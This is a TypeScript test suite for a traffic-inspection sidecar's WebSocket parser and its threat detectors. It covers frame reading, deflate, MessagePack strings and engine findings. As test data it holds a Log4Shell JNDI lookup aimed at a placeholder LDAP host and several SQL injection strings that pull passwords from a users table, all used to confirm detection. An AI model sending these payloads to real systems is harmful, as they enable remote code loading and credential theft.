import { once } from 'node:events';
import type { AddressInfo } from 'node:net';
import { constants, createDeflateRaw, type DeflateRaw } from 'node:zlib';
import { encode } from '@msgpack/msgpack';
import { describe, expect, it } from 'vitest';
import WebSocket, { WebSocketServer } from 'ws';
import { createEngine } from '#sidecar/engine/create-engine.ts';
import { defaultObservers } from '#sidecar/engine/default-observers.ts';
import type { Direction, WebsocketMessageEvent } from '#sidecar/events.ts';
import { http } from '#sidecar/protocols/http.ts';
import { createWebsocketReader } from '#sidecar/protocols/http-websocket.ts';
import { websocketDeflate } from '#sidecar/protocols/websocket-deflate.ts';
import { log4shell } from '#sidecar/threats/log4shell.ts';
import {
  ascii,
  concat,
  feed,
  prng,
  randomBytes,
  type Segment,
} from '#test/fixtures/protocols/protocol-harness.ts';
import { clientMask, websocketFrame } from '#test/fixtures/protocols/websocket-frames.ts';
import { splitFindings } from '#test/helpers/split-findings.ts';
import { type Endpoints, tcpConversation } from '../engine/conversation.ts';
import { runThreat } from '../threats/threat-factories.ts';
import { startRecorder } from './loopback-recorder.ts';

// Frames built by hand from RFC 6455 §5.2 (websocket-frames.ts): header, lengths, masking, §5.4's fragments and
// control frames between them, RFC 7692's permessage-deflate (RSV1, raw deflate, the trailing 00 00 ff ff removed).
const frame = websocketFrame;
const mask = clientMask;
const text = (s: string) => new Uint8Array(Buffer.from(s, 'utf8'));

const readAll = (
  direction: Direction,
  chunks: Uint8Array[],
  deflate = { on: false, noContextTakeover: false },
) => {
  const reader = createWebsocketReader(direction, deflate);
  // With no carrier, a reader tells its messages only.
  const events = chunks
    .flatMap((chunk) => reader.read(chunk, 1))
    .filter((event): event is WebsocketMessageEvent => event.kind === 'websocket-message');
  return { reader, events: events.map(({ ts: _ts, ...rest }) => rest) };
};

/** A permessage-deflate compressor as a client keeps it: one deflate stream, flushed per message. */
const compressor = () => {
  const deflate: DeflateRaw = createDeflateRaw();
  const out: Buffer[] = [];
  deflate.on('data', (chunk: Buffer) => out.push(chunk));
  return async (message: string): Promise<Uint8Array> => {
    deflate.write(message);
    await new Promise<void>((resolve) => deflate.flush(constants.Z_SYNC_FLUSH, () => resolve()));
    const all = Buffer.concat(out.splice(0));
    return new Uint8Array(all.subarray(0, all.length - 4));
  };
};

describe('websocket frames', () => {
  it('reads masked and unmasked messages of 7-, 16- and 64-bit lengths, split anywhere', () => {
    const long = 'x'.repeat(300);
    const huge = new Uint8Array(70_000).fill(0x41);
    const bytes = concat(
      frame(1, text('{"op":"hello"}'), { mask }),
      frame(2, Uint8Array.of(1, 2, 3)),
      frame(1, text(long), { mask }),
      frame(1, huge),
      frame(1, new Uint8Array(0), { mask }),
    );
    const expected = [
      {
        kind: 'websocket-message',
        direction: 'to-server',
        opcode: 'text',
        length: 14,
        compressed: false,
        text: '{"op":"hello"}',
      },
      { kind: 'websocket-message', direction: 'to-server', opcode: 'binary', length: 3, compressed: false },
      {
        kind: 'websocket-message',
        direction: 'to-server',
        opcode: 'text',
        length: 300,
        compressed: false,
        text: long,
      },
      {
        kind: 'websocket-message',
        direction: 'to-server',
        opcode: 'text',
        length: 70_000,
        compressed: false,
        text: 'A'.repeat(64 * 1024),
      },
      {
        kind: 'websocket-message',
        direction: 'to-server',
        opcode: 'text',
        length: 0,
        compressed: false,
        text: '',
      },
    ];
    expect(readAll('to-server', [bytes]).events).toEqual(expected);
    for (const cut of [1, 2, 3, 7, 15, 16, 17, 320, 330, 1000, 60_000, bytes.length - 3])
      expect(readAll('to-server', [bytes.subarray(0, cut), bytes.subarray(cut)]).events).toEqual(expected);
    const small = concat(frame(1, text('{"op":"hello"}'), { mask }), frame(2, Uint8Array.of(1, 2, 3)));
    expect(
      readAll(
        'to-server',
        Array.from(small, (b) => Uint8Array.of(b)),
      ).events,
    ).toEqual(expected.slice(0, 2));
  });

  it("lists a MessagePack message's strings past the 256th as one, `(rest)`, which is judged (ADR 35)", () => {
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal Log4j lookup, not a template.
    const jndi = '${jndi:ldap://198.51.100.7/a}';
    const items = Array.from({ length: 300 }, (_, i) => `item ${i}`);
    const bytes = frame(2, encode({ items, q: jndi }), { mask });
    const [event] = readAll('to-server', [bytes]).events as WebsocketMessageEvent[];
    const strings = event?.strings ?? [];
    expect(strings).toHaveLength(257);
    expect(strings[255]).toEqual(['$.items[255]', 'item 255']);
    expect(strings[256]).toEqual(['(rest)', [...items.slice(256), jndi].join('\n')]);
    const found = runThreat(log4shell, [{ ...event, ts: 1 } as WebsocketMessageEvent]);
    expect(found.map((h) => h.evidence)).toEqual([expect.stringContaining('websocket msgpack (rest)')]);
    const harmless = frame(2, encode({ items: items.map((item) => `\${user} ${item} $HOME ldap://host`) }), {
      mask,
    });
    const [quiet] = readAll('to-server', [harmless]).events as WebsocketMessageEvent[];
    expect(runThreat(log4shell, [{ ...quiet, ts: 1 } as WebsocketMessageEvent])).toEqual([]);
  });

  it('joins fragments, with control frames between them, into one message', () => {
    const bytes = concat(
      frame(1, text('SELECT * FROM t '), { fin: false, mask }),
      frame(9, text('ping'), { mask }),
      frame(0, text("WHERE a = '1' OR '1'='1'"), { mask }),
      frame(8, Uint8Array.of(0x03, 0xe8), { mask }),
    );
    expect(readAll('to-server', [bytes]).events).toEqual([
      {
        kind: 'websocket-message',
        direction: 'to-server',
        opcode: 'text',
        length: 40,
        compressed: false,
        text: "SELECT * FROM t WHERE a = '1' OR '1'='1'",
      },
    ]);
  });

  it('stops at broken framing: a reserved opcode, a stray continuation, RSV1 without deflate, a long control frame', () => {
    for (const bad of [
      frame(3, text('x')),
      frame(0, text('x')),
      frame(1, text('x'), { rsv1: true }),
      frame(9, new Uint8Array(126)),
      frame(8, text('x'), { fin: false }),
    ]) {
      const { reader, events } = readAll('to-client', [concat(bad, frame(1, text('after')))]);
      expect([reader.failed, events]).toEqual([true, []]);
    }
  });

  it('inflates permessage-deflate messages with the sender’s context, or each afresh when it said so', async () => {
    const compress = compressor();
    const first = await compress('{"q":"hello"}');
    const second = await compress('{"q":"hello", "id":"1 OR 1=1"}');
    const frames = [frame(1, first, { rsv1: true, mask }), frame(1, second, { rsv1: true, mask })];
    const { events } = readAll('to-server', frames, { on: true, noContextTakeover: false });
    expect(events.map((e) => [(e as WebsocketMessageEvent).text, e.compressed])).toEqual([
      ['{"q":"hello"}', true],
      ['{"q":"hello", "id":"1 OR 1=1"}', true],
    ]);
    // Read as if each message stood alone, the second refers back to bytes the reader lacks: no text for it.
    const alone = readAll('to-server', frames, { on: true, noContextTakeover: true }).events;
    expect(alone.map((e) => (e as WebsocketMessageEvent).text)).toEqual(['{"q":"hello"}', undefined]);
  });

  it('gives up the context after a message too large to inflate, and says so by leaving out the text', async () => {
    const compress = compressor();
    const bomb = await compress('a'.repeat(2 * 1024 * 1024));
    const next = await compress('{"q":"after"}');
    const { events } = readAll(
      'to-server',
      [frame(2, bomb, { rsv1: true }), frame(1, next, { rsv1: true })],
      {
        on: true,
        noContextTakeover: false,
      },
    );
    expect(events.map((e) => [e.opcode, e.compressed, (e as WebsocketMessageEvent).text])).toEqual([
      ['binary', true, undefined],
      ['text', true, undefined],
    ]);
  });

  it('never throws on hostile bytes, whatever the deflate settings', () => {
    const next = prng(0x3ebc);
    for (const deflate of [
      { on: false, noContextTakeover: false },
      { on: true, noContextTakeover: false },
      { on: true, noContextTakeover: true },
    ]) {
      for (let run = 0; run < 300; run++) {
        const reader = createWebsocketReader('to-server', deflate);
        // Valid frame starts (often compressed) followed by noise, so the reader gets past its first header.
        const start = frame(1, randomBytes(next, Math.floor(next() * 300)), {
          rsv1: deflate.on && run % 2 === 0,
        });
        const chunks = [
          start,
          ...Array.from({ length: 4 }, () => randomBytes(next, 1 + Math.floor(next() * 400))),
        ];
        expect(() => {
          for (const chunk of chunks) reader.read(chunk, run);
        }).not.toThrow();
      }
    }
  });

  it('reads what the handshake agreed about permessage-deflate', () => {
    expect(websocketDeflate(undefined)).toEqual({
      client: { on: false, noContextTakeover: false },
      server: { on: false, noContextTakeover: false },
    });
    expect(
      websocketDeflate(
        'x-webkit-deflate-frame, permessage-deflate; Client_No_Context_Takeover; server_max_window_bits=10',
      ),
    ).toEqual({
      client: { on: true, noContextTakeover: true },
      server: { on: true, noContextTakeover: false },
    });
  });
});

const upgradeRequest = ascii(
  'GET /chat HTTP/1.1\r\nHost: app\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n' +
    'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n',
);
const switching = ascii(
  'HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n' +
    'Sec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n\r\n',
);

describe('websocket after an HTTP/1.1 upgrade', () => {
  it('reads messages both ways once the server switched, and not before or for other upgrades', () => {
    const segments: Segment[] = [
      ['to-server', concat(upgradeRequest)],
      ['to-client', concat(switching, frame(1, text('{"welcome":true}')))],
      ['to-server', frame(1, text('{"cmd":"list"}'), { mask })],
    ];
    const events = feed(http, segments) as { kind: string; text?: string }[];
    expect(events.map((e) => [e.kind, e.text])).toEqual([
      ['http-request', undefined],
      ['http-response', undefined],
      ['websocket-message', '{"welcome":true}'],
      ['websocket-message', '{"cmd":"list"}'],
    ]);
    const other = feed(http, [
      ['to-server', ascii('GET / HTTP/1.1\r\nHost: a\r\nUpgrade: foo\r\nConnection: Upgrade\r\n\r\n')],
      ['to-client', concat(ascii('HTTP/1.1 101 Switching\r\nUpgrade: foo\r\n\r\n'), frame(1, text('{}')))],
    ]) as { kind: string }[];
    expect(other.map((e) => e.kind)).toEqual(['http-request', 'http-response']);
  });

  it("names the upgrade request's forwarding headers on every message, both ways, and only those", () => {
    // A proxy that adds its own line (HAProxy's option forwardfor) after the client's: the lines are one list.
    const forwarded = ascii(
      'GET /chat HTTP/1.1\r\nHost: app\r\nX-Forwarded-For: 198.51.100.7\r\nUpgrade: websocket\r\n' +
        'Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n' +
        'X-Forwarded-For: 203.0.113.9\r\n\r\n',
    );
    const messages = (request: Uint8Array) =>
      (
        feed(http, [
          ['to-server', request],
          ['to-client', concat(switching, frame(1, text('{"welcome":true}')))],
          ['to-server', frame(1, text('{"cmd":"list"}'), { mask })],
          ['to-server', frame(2, text('{"cmd":"more"}'), { mask })],
        ]) as WebsocketMessageEvent[]
      ).filter((e) => e.kind === 'websocket-message');
    expect(messages(forwarded).map((e) => [e.direction, e.forwarding])).toEqual([
      ['to-client', [['x-forwarded-for', '198.51.100.7, 203.0.113.9']]],
      ['to-server', [['x-forwarded-for', '198.51.100.7, 203.0.113.9']]],
      ['to-server', [['x-forwarded-for', '198.51.100.7, 203.0.113.9']]],
    ]);
    expect(messages(upgradeRequest).map((e) => e.forwarding)).toEqual([undefined, undefined, undefined]);
  });

  /**
   * A real `ws` client and server with permessage-deflate through the loopback recorder: each message is sent and its
   * answer awaited; returns the WebSocket message events the HTTP parser reads from the recorded bytes.
   */
  const recordWsSession = async (
    path: string,
    answer: (data: WebSocket.RawData) => string | Uint8Array,
    messages: readonly (string | Uint8Array)[],
    binary = false,
  ): Promise<WebsocketMessageEvent[]> => {
    const server = new WebSocketServer({ port: 0, host: '127.0.0.1', perMessageDeflate: { threshold: 0 } });
    await once(server, 'listening');
    server.on('connection', (socket) => socket.on('message', (data) => socket.send(answer(data))));
    const recorder = await startRecorder((server.address() as AddressInfo).port);
    const client = new WebSocket(`ws://127.0.0.1:${recorder.port}${path}`, {
      perMessageDeflate: { threshold: 0 },
    });
    await once(client, 'open');
    for (const message of messages) {
      client.send(message, { binary });
      await once(client, 'message');
    }
    client.close();
    await once(client, 'close');
    await recorder.close();
    server.close();
    const events = feed(
      http,
      recorder.chunks.map((c): Segment => [c.direction, c.bytes]),
    ) as WebsocketMessageEvent[];
    return events.filter((e) => e.kind === 'websocket-message');
  };

  it('reads a real ws client and server (permessage-deflate, context takeover) through a loopback relay', async () => {
    const sent = ['{"q":"first"}', '{"q":"first","n":2}', `{"q":"${'z'.repeat(500)}"}`];
    const messages = await recordWsSession('/live', (data) => `echo ${String(data)}`, sent);
    expect(messages.map((e) => [e.direction, e.compressed, e.text])).toEqual(
      sent.flatMap((m) => [
        ['to-server', true, m],
        ['to-client', true, `echo ${m}`],
      ]),
    );
  });

  it('reads binary messages from a real ws client: MessagePack strings by path, UTF-8 text as text', async () => {
    const messages = await recordWsSession(
      '/socket.io/',
      () => encode({ ok: true }),
      [
        encode({ type: 2, data: ['search', { q: "1' UNION SELECT password FROM users--" }] }),
        new TextEncoder().encode('{"as":"utf-8 text in a binary frame"}'),
      ],
      true,
    );
    const sent = messages.filter((e) => e.direction === 'to-server');
    expect(sent.map((e) => [e.opcode, e.compressed, e.strings, e.text])).toEqual([
      [
        'binary',
        true,
        [
          ['$.data[0]', 'search'],
          ['$.data[1].q', "1' UNION SELECT password FROM users--"],
        ],
        undefined,
      ],
      ['binary', true, undefined, '{"as":"utf-8 text in a binary frame"}'],
    ]);
  });

  it('finds SQL injection in a client’s JSON message through the engine, and marks the flow as WebSocket', () => {
    const web: Endpoints = { client: '10.0.0.1', server: '10.0.0.2', clientPort: 40000, serverPort: 8080 };
    const engine = createEngine({ observers: defaultObservers() });
    const records = tcpConversation(web, [
      { from: 'client', data: upgradeRequest },
      { from: 'server', data: switching },
      {
        from: 'client',
        data: frame(1, text('{"action":"search","q":"1\' UNION SELECT password FROM users--"}'), { mask }),
      },
    ]);
    for (const record of records) engine.push(record);
    const findings = engine.flush();
    const { flows, threats } = splitFindings(findings);
    const [threat] = threats;
    const [flow] = flows;
    expect(threat?.threat).toBe('sql-injection');
    expect(threat?.evidence).toContain('websocket json $.q');
    expect(flow?.protocol).toBe('http');
    expect(flow?.l7?.operations).toEqual(['websocket text']);
  });

  it('names the client a proxy wrote into the upgrade request in the finding about a message', () => {
    const web: Endpoints = { client: '10.0.0.1', server: '10.0.0.2', clientPort: 40000, serverPort: 8080 };
    const request = ascii(
      'GET /chat HTTP/1.1\r\nHost: app\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n' +
        'X-Forwarded-For: 198.51.100.7, 203.0.113.9\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n' +
        'Sec-WebSocket-Version: 13\r\n\r\n',
    );
    const engine = createEngine({ observers: defaultObservers() });
    const records = tcpConversation(web, [
      { from: 'client', data: request },
      { from: 'server', data: switching },
      { from: 'client', data: frame(1, text('{"q":"1\' UNION SELECT password FROM users--"}'), { mask }) },
    ]);
    for (const record of records) engine.push(record);
    const { threats } = splitFindings(engine.flush());
    expect(threats.map((t) => [t.threat, t.client.ip, t.origin, t.originBy])).toEqual([
      ['sql-injection', '10.0.0.1', { ip: '203.0.113.9', port: 0 }, 'x-forwarded-for'],
    ]);
  });
});
